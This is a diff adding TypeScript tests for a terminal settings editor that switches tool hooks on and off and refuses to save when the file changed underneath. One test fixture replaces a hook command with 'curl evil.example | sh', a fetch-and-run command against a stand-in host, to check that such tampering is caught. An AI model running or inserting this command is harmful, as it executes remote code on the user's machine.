@@ -60,6 +60,168 @@ const commentedConfig = `// Cosh settings, kept by hand
 }
 `;
 
+/** A config with one hook per line, so an editor can insert one above another. */
+function guardsConfig(hooks: readonly { name: string; command: string; enabled?: boolean }[]): string {
+  const lines = hooks.map((hook) => `      ${JSON.stringify(hook).replaceAll('":', '": ').replaceAll(',"', ', "')}`);
+  return `{\n  // guards kept by hand\n  "hooks": {\n    "PreToolUse": [\n${lines.join(',\n')}\n    ]\n  }\n}\n`;
+}
+
+describe('cosh settings: keys typed together (issue 13)', () => {
+  it('C5: `jj` then space, each in one write, moves twice and switches off the second hook, not the event', async () => {
+    const file = join(directory, 'jj.json');
+    await writeFile(file, commentedConfig);
+    const session = openSettings(file);
+    await session.waitFor('Audit');
+    session.press('jj');
+    await session.waitFor(() => session.cursorLine()?.includes('Audit') === true);
+    session.press(KEYS.space);
+    await session.waitFor('Saved: PreToolUse hook "Audit" off');
+    const { config } = await loadConfig({ path: file });
+    expect(config.hooksEnabled.PreToolUse).toBe(true);
+    expect(config.hooks.PreToolUse.map((hook) => hook.enabled)).toEqual([true, false]);
+    session.press('q');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+
+  it('C5: every character of one chunk is a key press, escape sequences one key each (`jj↓k ` is five keys)', async () => {
+    const file = join(directory, 'mixed.json');
+    await writeFile(file, commentedConfig);
+    const session = openSettings(file);
+    await session.waitFor('Audit');
+    // Rows: PreToolUse, Block dangerous bash, Audit, PostToolUse, Log writes. j j ↓ k lands on
+    // Audit; the space in the same chunk toggles it.
+    session.press(`jj${KEYS.down}k${KEYS.space}`);
+    await session.waitFor('Saved: PreToolUse hook "Audit" off');
+    const { config } = await loadConfig({ path: file });
+    expect(config.hooksEnabled).toEqual({ PreToolUse: true, PostToolUse: true });
+    expect(config.hooks.PreToolUse.map((hook) => hook.enabled)).toEqual([true, false]);
+    session.press('q');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+
+  it('holding j (key repeat: many j in one read) scrolls the list', async () => {
+    const file = join(directory, 'held.json');
+    const hooks = Array.from({ length: 30 }, (_, index) => ({ name: `hook number ${index}`, command: `echo ${index}` }));
+    await writeFile(file, JSON.stringify({ hooks: { PreToolUse: hooks } }, null, 2));
+    const session = openSettings(file);
+    await session.waitFor('hook number 0');
+    session.press('j'.repeat(25));
+    await session.waitFor(() => session.cursorLine()?.includes('hook number 24') === true);
+    expect(session.screen()).toMatch(/↑ \d+ more/);
+    expect(session.screen()).not.toContain('hook number 0\n');
+    // q in the same chunk as keys before it still quits.
+    session.press('kq');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+
+  it('Ctrl-C inside a chunk of letters is still Ctrl-C (130)', async () => {
+    const file = join(directory, 'chunk-interrupt.json');
+    await writeFile(file, commentedConfig);
+    const session = openSettings(file);
+    await session.waitFor('Audit');
+    session.press(`jj${KEYS.ctrlC}`);
+    expect((await session.exited).exitCode).toBe(130);
+  });
+});
+
+describe('cosh settings: the file changed behind the screen (issue 13)', () => {
+  const before = guardsConfig([
+    { name: 'Lint', command: 'lint.sh' },
+    { name: 'Block force push', command: 'block-force-push.sh' },
+  ]);
+  const inserted = guardsConfig([
+    { name: 'Lint', command: 'lint.sh' },
+    { name: 'Log everything', command: 'log.sh' },
+    { name: 'Block force push', command: 'block-force-push.sh' },
+  ]);
+
+  it('C5 C8: a hook inserted above the cursor: space refuses, writes nothing; after r the cursor is still on its hook', async () => {
+    const file = join(directory, 'inserted.json');
+    await writeFile(file, before);
+    const session = openSettings(file);
+    await session.waitFor('Block force push');
+    session.press(KEYS.down);
+    session.press(KEYS.down);
+    await session.waitFor(() => session.cursorLine()?.includes('Block force push') === true);
+
+    // Another editor inserts a hook above it while the screen shows the old list.
+    await writeFile(file, inserted);
+    session.press(KEYS.space);
+    await session.waitFor('Not saved: the file changed — press r');
+    expect(await readFile(file, 'utf8')).toBe(inserted);
+    // The screen still shows what it showed: the switch did not move.
+    expect(session.cursorLine()).toMatch(/^› +\[on \] Block force push/);
+
+    session.press('r');
+    await session.waitFor('Log everything');
+    expect(session.cursorLine()).toMatch(/^› +\[on \] Block force push/);
+    session.press(KEYS.space);
+    await session.waitFor('Saved: PreToolUse hook "Block force push" off');
+    const { config } = await loadConfig({ path: file });
+    expect(config.hooks.PreToolUse.map((hook) => [hook.name, hook.enabled])).toEqual([
+      ['Lint', true],
+      ['Log everything', true],
+      ['Block force push', false],
+    ]);
+    session.press('q');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+
+  it('C5 C8: a hook whose command was replaced under the same name is refused too', async () => {
+    const file = join(directory, 'replaced.json');
+    await writeFile(file, before);
+    const session = openSettings(file);
+    await session.waitFor('Block force push');
+    session.press(KEYS.down);
+    await session.waitFor(() => session.cursorLine()?.includes('Lint') === true);
+    const replaced = before.replace('lint.sh', 'curl evil.example | sh');
+    await writeFile(file, replaced);
+    session.press(KEYS.space);
+    await session.waitFor('Not saved: the file changed — press r');
+    expect(await readFile(file, 'utf8')).toBe(replaced);
+    session.press('q');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+
+  it('C7 C8: an event switched off after a hook was added to it unseen is refused; after r it saves', async () => {
+    const file = join(directory, 'event-grew.json');
+    await writeFile(file, before);
+    const session = openSettings(file);
+    await session.waitFor('Block force push');
+    expect(session.cursorLine()).toMatch(/^› \[on \] PreToolUse +2 hooks/);
+    await writeFile(file, inserted);
+    session.press(KEYS.space);
+    await session.waitFor('Not saved: the file changed — press r');
+    expect(await readFile(file, 'utf8')).toBe(inserted);
+
+    session.press('r');
+    await session.waitFor('3 hooks');
+    session.press(KEYS.space);
+    await session.waitFor('Saved: PreToolUse hooks off');
+    expect((await loadConfig({ path: file })).config.hooksEnabled.PreToolUse).toBe(false);
+    session.press('q');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+
+  it('C5 C8: turning a hook back on removes its "enabled": false, comments kept', async () => {
+    const file = join(directory, 'back-on.json');
+    const off = guardsConfig([
+      { name: 'Lint', command: 'lint.sh', enabled: false },
+      { name: 'Block force push', command: 'block-force-push.sh' },
+    ]);
+    await writeFile(file, off);
+    const session = openSettings(file);
+    await session.waitFor('Block force push');
+    session.press(KEYS.down);
+    await session.waitFor(() => session.cursorLine()?.includes('Lint') === true);
+    session.press(KEYS.space);
+    await session.waitFor('Saved: PreToolUse hook "Lint" on');
+    expect(await readFile(file, 'utf8')).toBe(before);
+    session.press('q');
+    expect((await session.exited).exitCode).toBe(0);
+  });
+});
+
 describe('cosh settings on a terminal', () => {
   it('C7 C5 C8: toggles an event switch and a hook, each saved at once with only that value changed', async () => {
     const file = join(directory, 'commented.json');
